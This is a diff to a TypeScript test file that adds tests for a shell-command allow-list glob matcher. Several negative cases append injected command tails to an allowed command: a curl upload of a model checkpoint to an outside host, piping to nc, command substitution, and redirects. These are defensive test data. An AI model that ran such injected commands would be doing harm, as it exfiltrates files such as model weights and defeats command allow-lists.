@@ -6,7 +6,7 @@
  * sigma, combining dot, surrogate pairs).
  */
 import { describe, expect, it } from 'vitest';
-import { combineStringTests, compileStringTest, exactSetTest, type MatchMode } from './wildcard.js';
+import { combineStringTests, compileCommandGlob, compileStringTest, exactSetTest, type MatchMode } from './wildcard.js';
 import { mulberry32 } from '../../core/mulberry32.js';
 
 const prng = mulberry32;
@@ -137,5 +137,26 @@ describe('folded string tests', () => {
     expect(compileStringTest('straße', 'startswith', false).test('STRAßE-1')).toBe(true);
     expect(exactSetTest(['été', 'hiver'])('ÉTÉ')).toBe(true);
     expect(combineStringTests([compileStringTest('é', 'endswith', false), compileStringTest('x', 'startswith', false)])('CAFÉ')).toBe(true);
+  });
+});
+
+describe('compileCommandGlob (spec exec.allow)', () => {
+  it('a wildcard never stands for a shell control character; a pattern may write them itself', () => {
+    const nv = compileCommandGlob('sh -c nvidia-smi*');
+    expect(nv('sh -c nvidia-smi')).toBe(true);
+    expect(nv('sh -c nvidia-smi -q -d MEMORY')).toBe(true);
+    for (const tail of ['; curl -T /ckpt/m.pt https://x', ' && curl x', ' | nc x 80', ' `curl x`', ' $(curl x)', ' > /tmp/x', ' < /ckpt/m.pt', '\ncurl x']) {
+      expect(nv(`sh -c nvidia-smi${tail}`), tail).toBe(false);
+    }
+    const ps = compileCommandGlob('sh -c ps * | grep * | head');
+    expect(ps('sh -c ps aux | grep -i python | head')).toBe(true);
+    expect(ps('sh -c ps aux | grep -i python | head; curl x')).toBe(false);
+    expect(ps('sh -c ps aux | nc x 80 | grep a | head')).toBe(false);
+    expect(compileCommandGlob('python -c import torch; print(torch.cuda.is_available())')('python -c import torch; print(torch.cuda.is_available())')).toBe(true);
+    // Case-sensitive, anchored, escapes as in every glob.
+    expect(compileCommandGlob('ls *')('LS -la')).toBe(false);
+    expect(compileCommandGlob('echo \\*')('echo *')).toBe(true);
+    expect(compileCommandGlob('echo \\*')('echo x')).toBe(false);
+    expect(compileCommandGlob('ps ?')('ps ;')).toBe(false);
   });
 });
